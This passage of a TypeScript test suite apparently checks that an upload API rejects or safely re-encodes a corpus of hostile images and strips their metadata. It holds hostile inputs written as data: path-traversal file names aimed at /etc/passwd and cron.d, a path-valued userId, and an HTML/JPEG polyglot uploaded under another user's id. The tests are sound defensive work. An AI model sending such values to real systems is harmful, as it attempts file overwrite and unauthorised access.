            expect(s.height).toBeLessThanOrEqual(box.height);
          });
          if (entry.check) entry.check(a.served[0]!.meta, inputMeta!);
          expect(isSafe(a)).toBe(true);
        }
      });
    }
  });

  it('summary: 100% rejected cleanly or re-encoded safely, and no output keeps metadata', async () => {
    const all = await Promise.all(CORPUS.map((entry) => run(entry)));
    const attempts = all.flatMap((o) => o.attempts);
    const rejected = all.filter((o) => o.attempts.every((a) => a.status >= 400 && a.status < 500));
    const reencoded = all.filter((o) => o.attempts.every((a) => a.status === 200));
    const outputs = attempts.flatMap((a) => a.served);
    const keepingMetadata = outputs.filter((s) => s.keptMetadata.length > 0);
    console.info(
      `hostile corpus: ${CORPUS.length} files × 2 routes; ${rejected.length} rejected, ${reencoded.length} re-encoded ` +
        `(${outputs.length} outputs, ${keepingMetadata.length} with metadata)`,
    );
    expect(attempts.filter((a) => !isSafe(a)).map((a) => a.route)).toEqual([]);
    expect(rejected.length + reencoded.length).toBe(CORPUS.length);
    expect(keepingMetadata).toEqual([]);
    // The expectations in the table hold: nothing planned as a rejection slipped through, or the reverse.
    expect(rejected.map((o) => o.entry.name).sort()).toEqual(
      CORPUS.filter((e) => e.expected === 'reject')
        .map((e) => e.name)
        .sort(),
    );
  });
});

describe('hostile request fields', () => {
  it('a path-traversal file name and key in the body are ignored: the file is stored under its content hash', async () => {
    const me = await freshProvider();
    const before = allStoredFiles();
    const res = await t.post(
      '/api/upload/avatar',
      {
        file: dataUrl(base.jpeg, 'image/jpeg'),
        userId: me.id,
        fileName: '../../etc/passwd.jpg',
        filename: '..\\..\\auth-secret.jpg',
        name: '/etc/passwd',
        key: '../../../tmp/evil.html',
        path: '../../etc/cron.d/x',
      },
      { token: me.token },
    );
    expect(res.status).toBe(200);
    expect(res.body.avatarUrl).toMatch(new RegExp(`^/uploads/avatar/${me.id}/[0-9a-f]{64}\\.webp$`));
    const added = allStoredFiles().filter((f) => !before.includes(f));
    expect(added.sort()).toEqual(
      [res.body.avatarUrl, thumbnailUrl(res.body.avatarUrl)]
        .map((u: string) => u.slice('/uploads/'.length))
        .sort(),
    );
    for (const f of added) expect(f).not.toMatch(/passwd|evil|cron|\.\./);
  });

  it('a userId that is a path → 400, nothing stored', async () => {
    const me = await freshProvider();
    const before = allStoredFiles();
    for (const route of ['avatar', 'portfolio'] as const) {
      const res = await t.post(
        `/api/upload/${route}`,
        { file: dataUrl(base.jpeg, 'image/jpeg'), userId: '../../etc' },
        { token: me.token },
      );
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ success: false, error: 'VALIDATION_ERROR' });
      expect(res.body.issues[0].path).toBe('userId');
    }
    expect(allStoredFiles()).toEqual(before);
    expect(await storedFor('avatar', me.id)).toBeNull();
    expect(await storedFor('portfolio', me.id)).toEqual([]);
  });

  it("another user's userId with a polyglot → 403 on both routes; neither user's state changes", async () => {
    const [me, victim] = [await freshProvider(), await freshProvider()];
    const before = allStoredFiles();
    const file = dataUrl(Buffer.concat([base.jpeg, latin1(HTML)]), 'image/jpeg');
    for (const route of ['avatar', 'portfolio'] as const) {
      const res = await t.post(`/api/upload/${route}`, { file, userId: victim.id }, { token: me.token });
      expect(res.status).toBe(403);
      expect(res.body).toEqual({ success: false, error: 'FORBIDDEN', message: UPLOAD_TEXTS.notYours });
    }
    expect(allStoredFiles()).toEqual(before);
    for (const who of [me, victim]) {
      expect(await storedFor('avatar', who.id)).toBeNull();
      expect(await storedFor('portfolio', who.id)).toEqual([]);
    }
  });
});
